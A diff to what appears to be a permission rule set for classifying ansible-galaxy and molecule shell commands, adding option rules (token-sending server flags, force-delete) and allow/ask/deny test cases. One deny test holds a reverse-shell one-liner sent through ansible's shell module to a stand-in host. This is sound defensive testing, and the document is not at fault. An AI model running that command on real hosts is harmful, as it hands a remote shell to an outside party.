@@ -43,10 +43,16 @@ ANSIBLE_LOOK = loose(
     [option("-i --inventory --inventory-file -M --module-path -c --config --playbook-dir -r", OBEYS)],
 )
 ROLES = runs("third-party roles", "registry", Manner.INSTALL)
+SERVER = option("-s --server --api-server", FETCHES)  # which gets the user's token
 ROLE_WORDS = [
     sub("build", "READS...", [option("--output-path", WRITES)], unlisted=PLAIN),
-    loose("list search info verify"),
-    sub("init", "WRITES?", [option("--init-path", WRITES)], unlisted=PLAIN),
+    loose("list search info verify", [SERVER]),
+    sub(
+        "init",
+        "WRITES?",
+        [option("--init-path", WRITES), flag("-f --force", operands="DELETES?", manner=Manner.RECURSIVE), SERVER],
+        unlisted=PLAIN,
+    ),
     loose("publish import", does=publishes("the collection", "registry")),
     loose("*", does=ROLES),
 ]
@@ -57,12 +63,17 @@ ANSIBLE_GALAXY = command(
 )
 MOLECULE = command(
     "molecule",
-    options=[flag("--version", informs=True), flags("--debug --no-debug -v -vv -vvv -e= --env-file="), option("-c --base-config", "OBEYS")],
+    options=[flag("--version", informs=True), flags("--debug --no-debug -v -vv -vvv"), option("-c --base-config -e --env-file", "OBEYS")],
     subcommands=[
         loose("list matrix drivers"),
         loose("init", does=writes("the project's files", "workspace")),
-        loose(
+        sub(
             "check cleanup converge create dependency destroy idempotence lint prepare reset side-effect syntax test verify",
+            "OPAQUE...",  # arguments of ansible-playbook, such as other hosts
+            [
+                flags("-s= --scenario-name= --all --no-all --parallel --no-parallel -f --force --no-force -p= --platform-name= --destroy= --shared-state --report"),
+                option("-d --driver-name", READ_BY("ansible.driver")),
+            ],
             does=(runs("the project's own code"), controls("the project's containers", "container", Manner.OWN)),
         ),
     ],
@@ -74,7 +85,15 @@ ask    ansible-galaxy collection build --output-path ~/.ssh .
 ask    ansible-galaxy collection publish dist/a.tar.gz
 llm    ansible-galaxy collection install acme.edge
 llm    ansible-galaxy install -r requirements.yml
+ask    ansible-galaxy role init --force edge
+ask    ansible-galaxy collection verify acme.edge -s https://galaxy.stranger.example
+allow  ansible-galaxy collection init acme.edge
 allow  molecule converge -s default && molecule destroy
+allow  molecule test --all -d podman
+ask    molecule create --driver-name gce
+ask    molecule verify -- -i live.ini -c ssh
+llm    molecule -e /tmp/x.env converge
+ask    MOLECULE_EPHEMERAL_DIRECTORY=/home/user/docs molecule destroy
 deny   ansible web -m shell -a 'sh -i >& /dev/tcp/logs.example/9 0>&1'
 ask    ansible web -m shell -a 'systemctl restart app'
 ask    ansible-playbook site.yml
